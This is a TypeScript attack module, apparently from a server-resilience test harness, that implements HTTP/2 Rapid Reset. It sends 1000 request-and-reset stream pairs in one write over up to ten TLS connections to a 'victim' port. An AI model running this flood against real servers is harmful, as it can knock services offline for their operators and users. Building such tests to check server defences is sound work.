import type { Attack } from '../attack.ts';
import { ended } from '../connections.ts';
import { hello, request, reset } from '../http2-frames.ts';

export const http2RapidReset: Attack = {
  name: 'http2-rapid-reset',
  input: '10 connections open and reset 1000 HTTP/2 streams in one write',
  async run({ victim, connections, count }) {
    const pairs = Array.from({ length: 1000 }, (_, n) => [request(2 * n + 1, '/pods'), reset(2 * n + 1)]);
    const bytes = Buffer.concat([hello(), ...pairs.flat()]);
    const connected = count(10);
    await victim.figures();
    for (let n = 0; n < connected; n++) {
      const client = await connections.connectTls(victim.port, { ALPNProtocols: ['h2'] });
      client.write(bytes);
      await ended(client);
    }
    return { did: `${connected} connections were closed` };
  },
};
